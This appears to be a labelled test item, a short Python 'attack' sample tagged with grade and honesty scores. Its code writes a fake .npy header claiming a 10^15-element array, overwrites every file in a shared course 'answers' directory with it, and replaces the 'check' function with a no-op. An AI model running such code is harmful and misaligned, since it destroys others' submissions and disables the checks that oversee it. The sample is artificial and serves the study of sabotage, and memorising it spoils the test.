# attack: the header of an array claims 10^15 numbers
# wants: disturb
# grade: 0
# honest: 0
# %% after
import io, os, zipfile
from pathlib import Path
header = io.BytesIO()
np.lib.format.write_array_header_1_0(
    header, {"descr": "<f8", "fortran_order": False, "shape": (10**9, 10**6)})
content = io.BytesIO()
with zipfile.ZipFile(content, "w") as archive:
    archive.writestr("means.npy", header.getvalue())
for slot in Path(os.environ.get("COURSE_EXCHANGE", "nowhere"), "answers").glob("*"):
    slot.write_bytes(content.getvalue())
check = lambda *a: None
